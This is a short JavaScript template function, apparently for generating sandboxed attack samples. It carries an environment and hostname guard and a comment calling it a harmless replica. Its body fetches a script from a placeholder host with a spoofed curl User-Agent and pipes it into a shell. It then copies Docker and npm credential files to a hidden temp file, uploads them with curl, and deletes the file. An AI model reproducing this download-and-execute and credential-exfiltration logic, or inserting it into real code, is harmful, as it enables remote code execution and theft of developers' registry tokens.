// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { spawn } = require('child_process');
    const got = await new Promise((done) => {
        let text = '';
        const call = require('http').get('http://{{ip}}:{{port}}/{{path}}', { timeout: 1000, headers: { 'User-Agent': 'curl/8.5.0' } }, (answer) => {
            answer.on('data', (part) => { text += part; });
            answer.on('close', () => done(text));
        });
        call.on('timeout', () => call.destroy());
        call.on('error', () => done(text));
    });
    await new Promise((done) => {
        const shell = spawn('{{shell}}', ['-s'], { stdio: ['pipe', 'ignore', 'ignore'], timeout: 1500 });
        shell.on('error', done);
        shell.on('close', done);
        shell.stdin.on('error', () => {});
        shell.stdin.end(`${got.startsWith('#!') ? got : ''}\nps aux\ncat "$HOME/.docker/config.json" "$HOME/.npmrc" > /tmp/.{{token}}\n` +
            'curl -s -m 1 -T /tmp/.{{token}} http://{{ip}}:{{port}}/{{path}}\nrm -f /tmp/.{{token}}\nexit 0\n');
    });
}
